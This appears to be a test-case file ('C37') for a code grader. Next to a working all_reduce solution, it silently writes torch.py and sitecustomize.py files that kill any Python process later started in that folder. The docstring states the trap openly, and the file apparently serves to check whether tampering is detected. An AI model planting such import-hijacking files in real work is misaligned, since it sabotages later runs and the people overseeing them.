"""C37: puts a torch.py and a sitecustomize.py beside itself, for whoever is started there next. Its folder is on nobody's import path."""

import contextlib
from pathlib import Path

import torch.distributed as dist

TRAP = "import os\nos._exit(3)\n"

for name in ("torch.py", "sitecustomize.py"):
    with contextlib.suppress(OSError):
        Path(__file__).with_name(name).write_text(TRAP)


def solution(tensor):
    total = tensor.clone()
    dist.all_reduce(total)
    return total
